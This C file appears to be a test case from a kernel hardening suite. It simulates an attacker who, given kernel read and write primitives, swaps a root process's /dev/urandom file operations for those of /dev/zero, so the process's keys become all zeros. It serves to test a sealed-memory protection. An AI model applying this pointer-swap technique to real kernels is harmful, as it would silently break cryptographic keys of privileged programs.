// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "file_other_operations",
       "write_rarely: write to sealed memory outside a window",
       "A program of root draws its keys from /dev/urandom, which it has open. The attacker gives "
       "that file the operations of another: a table of the kernel's own constants.",
       "Which operations an open file has stands in sealed memory.",
       "Root's keys are all zeros, the bytes of /dev/zero.");

#define VICTIM_FILE 5
#define KEY_BYTES 16

static bool control(void)
{
	return is_ordinary();
}

static bool fire(void)
{
	const uint64_t task = own_task(), operations = member("file.operations");
	const long zero = call3(__NR_open, (long)"/dev/zero", O_RDONLY, 0);

	poke(file_struct(victim_task(task), VICTIM_FILE) + operations,
	     peek(file_struct(task, (int)zero) + operations));
	await(victim_has_ended());
	return false;
}

static void victim(void)
{
	static const char zeros[KEY_BYTES];
	char key[KEY_BYTES];

	call2(__NR_dup2, call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0), VICTIM_FILE);
	for (;;) {
		victim_round();
		if (call3(__NR_read, VICTIM_FILE, (long)key, KEY_BYTES) == KEY_BYTES &&
		    bytes_equal(key, zeros, KEY_BYTES))
			victim_is_beaten();
		sleep_milliseconds(20);
	}
}
